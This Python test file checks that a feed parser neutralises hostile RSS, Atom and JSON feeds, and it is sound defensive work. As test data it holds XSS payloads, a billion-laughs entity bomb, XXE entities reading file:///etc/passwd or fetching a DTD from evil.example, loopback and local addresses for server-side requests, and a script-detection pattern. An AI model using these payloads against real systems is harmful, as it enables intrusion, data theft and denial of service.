"""What hostile feeds may do to us: nothing."""

import json
import re
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mediawall.domain.errors import ShapeChanged
from mediawall.domain.post import Page
from mediawall.sources.feed import parse
from mediawall.sources.feed.addresses import sibling, web
from mediawall.sources.feed.plain import look, plain
from mediawall.sources.feed.reading import merged
from tests.sources.feed.data import DATA, FORMS, SANITIZE, URL

MARKUP = re.compile(r"<[a-zA-Z/!?]")
SCRIPT = re.compile(
    r"\bscript\b|alert\(|location\.href|onclick|onerror|expression\(|vbscript:", re.IGNORECASE
)
PICTURE = b'<enclosure url="https://stad.example/foto.jpg" type="image/jpeg"/>'
ATOM_PICTURE = b'<link rel="enclosure" href="https://stad.example/foto.jpg" type="image/jpeg"/>'
DATED = b"<pubDate>Sun, 22 Nov 2026 14:30:00 GMT</pubDate>"
ATOM_DATED = b"<updated>2026-11-22T14:30:00Z</updated><id>1</id>"


def with_picture(document: bytes) -> bytes:
    """The case with a picture and a date in each entry, so that its texts would really be shown."""
    document = re.sub(rb"(<item\b[^>]*>)", rb"\1" + DATED + PICTURE, document)
    return re.sub(rb"(<entry\b[^>]*>)", rb"\1" + ATOM_DATED + ATOM_PICTURE, document)


def words(page: Page) -> Iterator[str]:
    for post in page.posts:
        yield from (post.caption, post.author.handle, post.author.name, post.language)
        yield from (medium.alt for medium in post.media)


def addresses(page: Page) -> Iterator[str]:
    for post in page.posts:
        yield from (post.permalink, *(medium.url for medium in post.media))


@pytest.mark.parametrize("name", SANITIZE)
def test_no_case_yields_markup_script_or_a_foreign_scheme(name: str) -> None:
    for document in (SANITIZE[name], with_picture(SANITIZE[name])):
        page = parse(document, url=URL)
        for text in words(page):
            assert not MARKUP.search(text), text
            assert not SCRIPT.search(text.replace("Did The Javascript Execute?", "")), text
        for address in addresses(page):
            assert address == "" or address.startswith("https://"), address


def test_the_cases_are_really_read() -> None:
    pages = [parse(with_picture(document), url=URL) for document in SANITIZE.values()]

    assert len(pages) > 500
    assert sum(len(page.posts) for page in pages) > 400
    assert (
        sum("safe" in post.caption or "Some" in post.caption for page in pages for post in page.posts) > 100
    )


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<script/>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--><script>alert(1)</script>-->",
        "<!-- <script>alert(1)",
        "<style>@import 'javascript:alert(1)'",
        "<a href='java\nscript:alert(1)'></a>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<math><mtext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<![if gte mso 9]><script>alert(1)</script><![endif]>",
    ],
)
def test_no_script_survives_as_text(value: str) -> None:
    for text in (look(value)[0], plain(value)):
        assert not MARKUP.search(text)
        assert "alert(1)</" not in text
        assert "script" not in text.casefold() or text == "ipt>alert(1)"


def test_text_that_only_looks_like_arithmetic_stays() -> None:
    assert look("2 &lt; 3 and I &lt;3 Ieper")[0] == "2 < 3 and I <3 Ieper"
    assert plain("a\r\nb & c") == "a\nb & c"


@given(st.text(alphabet="<>/!?-[]&;abscriptltgam#x3\"'= \n\x00\ud800", max_size=80))
def test_no_text_whatever_leaves_markup_or_what_cannot_be_stored(value: str) -> None:
    for text in (look(value)[0], plain(value)):
        assert not MARKUP.search(text)
        text.encode()
        assert "\x00" not in text


LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<rss version="2.0"><channel><title>&c;</title></channel></rss>"""


@pytest.mark.parametrize(
    "document",
    [
        LAUGHS.encode(),
        LAUGHS.encode("utf-16"),
        LAUGHS.encode("utf-16-le"),
        LAUGHS.encode("utf-32"),
        LAUGHS.replace('"1.0"?', '"1.0" encoding="utf-7"?').replace("<!", "+ADwAIQ-").encode(),
        LAUGHS.replace('"1.0"?', '"1.0" encoding="cp037"?').encode("cp037"),
        LAUGHS.replace("<!DOCTYPE", "<!-- <rss> --><?x <rss?><!DOCTYPE").encode(),
        LAUGHS.replace("<!DOCTYPE rss [", '<!DOCTYPE rss SYSTEM "a>b" [').encode(),
        LAUGHS.replace("<!DOCTYPE rss [", "").replace("]>", "").encode(),
        b"<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel><title>&x;</title></channel></rss>",
        b"<!DOCTYPE rss [<!ENTITY % d SYSTEM 'https://evil.example/a.dtd'> %d;]><rss/>",
    ],
)
def test_a_feed_that_declares_entities_is_refused_unread(document: bytes) -> None:
    with pytest.raises(ShapeChanged):
        parse(document)


def test_an_outer_dtd_is_neither_fetched_nor_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("it was fetched")

    monkeypatch.setattr("socket.getaddrinfo", refuse)
    monkeypatch.setattr("urllib.request.urlopen", refuse)
    document = (
        b"<!DOCTYPE rss SYSTEM 'https://evil.example/a.dtd'><?xml-stylesheet href='https://evil.example/a.xsl'?>"
        b"<rss><channel><title>A &evil; B</title></channel></rss>"
    )

    assert merged(document).title == "A &evil; B"


def test_an_article_about_doctypes_is_no_doctype() -> None:
    document = (
        b"<rss><channel><title><![CDATA[On <!DOCTYPE x [<!ENTITY y 'z'>]> in XML]]></title></channel></rss>"
    )

    assert merged(document).title.startswith("On ")


@pytest.mark.parametrize(
    "inner",
    [
        "<author>" + "a" * 300_000 + "</author>",
        "<author>" + "&#97;" * 200_000 + "</author>",
        "<dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>" + "a." * 200_000 + "</dc:creator>",
        "".join(f"<category>{n}</category>" for n in range(20_000)),
        "<description>" + "&lt;!--" * 50_000 + "</description>",
        "<description>" + "&lt;a " * 50_000 + "</description>",
        "<x>" * 20_000 + "</x>" * 20_000,
        "<media:group>" * 20_000,
        "&" * 100_000,
        "<a b='" * 10_000,
        "<![CDATA[" * 10_000,
        "&#99999999999;<title>&#xFFFFFFFF;</title>",
    ],
    ids=range(12),
)
def test_no_feed_holds_the_process(inner: str) -> None:
    with suppress(ShapeChanged):
        parse(f"<rss version='2.0'><channel><item>{inner}</item></channel></rss>".encode())


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        " java\nscript:alert(1)",
        "data:image/png;base64,AAAA",
        "ftp://stad.example/a.jpg",
        "file:///etc/passwd",
        "//127.0.0.1/a.jpg",
        "https://127.0.0.1/a.jpg",
        "https://2130706433/a.jpg",
        "https://0x7f.1/a.jpg",
        "https://[::1]/a.jpg",
        "https://[64:ff9b::7f00:1]/a.jpg",
        "https://localhost/a.jpg",
        "https://printer/a.jpg",
        "https://nas.local/a.jpg",
        "https://user:word@stad.example/a.jpg",
        "https://stad.example:8443/a.jpg",
        "https://stad.example/<script>",
        "https://stad.example/\u202egpj.exe",
        "https://[",
        "http://",
        "https://" + "a" * 3000,
        7,
        None,
    ],
)
def test_such_addresses_are_none(address: object) -> None:
    assert web(address, URL) == ""


@pytest.mark.parametrize(
    ("address", "meant"),
    [
        ("http://stad.example/a.jpg", "https://stad.example/a.jpg"),
        ("//stad.example/a b.jpg?x={1}", "https://stad.example/a%20b.jpg?x=%7B1%7D"),
        ("../a.jpg?s=%2Fb&t=c%20d", "https://www.ieper.example/a.jpg?s=%2Fb&t=c%20d"),
        ("https://café.example/été", "https://café.example/été"),
    ],
)
def test_other_addresses_are_resolved_and_asked_in_https(address: str, meant: str) -> None:
    assert web(address, URL) == meant


@pytest.mark.parametrize(
    "address", ["https://evil.example/?page=2", "http://www.ieper.example/", "//[", "", 3]
)
def test_older_pages_are_only_asked_where_the_feed_itself_is(address: object) -> None:
    assert sibling(address, URL) == ""


JSON_FEED = json.loads((DATA / "made" / "feed.json").read_text())
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)


def mutated(value: Any, draw: Any) -> Any:
    """The value with some of its parts gone or of another type."""
    if draw(st.integers(0, 19)) == 0:
        return draw(anything)
    if isinstance(value, dict):
        return {key: mutated(row, draw) for key, row in value.items() if draw(st.integers(0, 19))}
    return [mutated(row, draw) for row in value] if isinstance(value, list) else value


@given(st.data())
def test_a_json_feed_of_any_wrong_shape_raises_nothing_else(data: st.DataObject) -> None:
    with suppress(ShapeChanged):
        check(parse(json.dumps(mutated(JSON_FEED, data.draw)).encode(), url=URL))


XML = [path.read_bytes() for path in sorted((DATA / "made").glob("*.*")) if path.suffix != ".json"]


@settings(deadline=None)
@given(
    st.sampled_from([*XML, *FORMS.values()]),
    st.lists(
        st.tuples(
            st.floats(0, 1),
            st.integers(0, 30),
            st.sampled_from(
                [b"", b"<", b">", b"&", b"]]>", b"<![CDATA[", b"\x00", b"\xff", b"</item>", b"<entry>"]
            ),
        ),
        max_size=6,
    ),
)
def test_a_mangled_feed_raises_nothing_else(document: bytes, cuts: list[tuple[float, int, bytes]]) -> None:
    for where, length, instead in cuts:
        place = int(where * len(document))
        document = document[:place] + instead + document[place + length :]
    with suppress(ShapeChanged):
        check(parse(document, url=URL))


def check(page: Page) -> None:
    for post in page.posts:
        assert post.media
        assert post.taken_at.tzinfo is not None
    assert not any(MARKUP.search(text) for text in words(page))
    assert all(address == "" or address.startswith("https://") for address in addresses(page))
